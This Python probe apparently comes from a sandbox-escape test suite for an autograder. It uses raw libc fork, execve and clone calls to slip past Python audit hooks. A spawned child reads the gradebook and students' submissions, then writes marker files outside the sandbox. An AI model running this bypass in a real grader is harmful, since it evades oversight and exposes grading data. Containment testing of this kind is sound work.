"""libc fork() and execve() through ctypes, then a raw clone(2) via syscall(): process creation
with no os.fork/os.exec audit event. The child is a fresh interpreter that reads the gradebook and
writes outside.

Got out: the child's output holds a canary, or its marked files exist on the host.
"""
from numpy.ctypeslib import ctypes
import os

libc = _libc()
child = (f"import glob\nfor p in ['{_COURSE}/gradebook.db'] + glob.glob('{_COURSE}/submitted/*/*/*'):\n"
         f"    try: print(p, open(p, 'rb').read()[:2000000])\n    except Exception as e: print(p, e)\n"
         f"for d in ['/tmp', '{_HOME}', '{_COURSE}']:\n"
         f"    try: open(d + '/{_MARK}-' + str(__import__('os').getpid()), 'w').write('x'); print('wrote', d)\n"
         f"    except Exception as e: print(d, e)\n")
r, w = os.pipe()
argv = (ctypes.c_char_p * 4)(_sys.executable.encode(), b"-c", child.encode(), None)
env = (ctypes.c_char_p * 1)(None)
for how in ("fork", "clone"):
    pid = libc.fork() if how == "fork" else libc.syscall(56, 17, 0, 0, 0, 0)  # clone(SIGCHLD)
    if pid == 0:
        libc.dup2(w, 1)
        libc.dup2(w, 2)
        libc.execve(_sys.executable.encode(), argv, env)
        libc._exit(127)
    print(how, "->", pid, "errno", ctypes.get_errno())
    if pid > 0:
        libc.waitpid(pid, None, 0)
os.close(w)
data = b""
while chunk := os.read(r, 65536):
    data += chunk
_leak(data, "children")
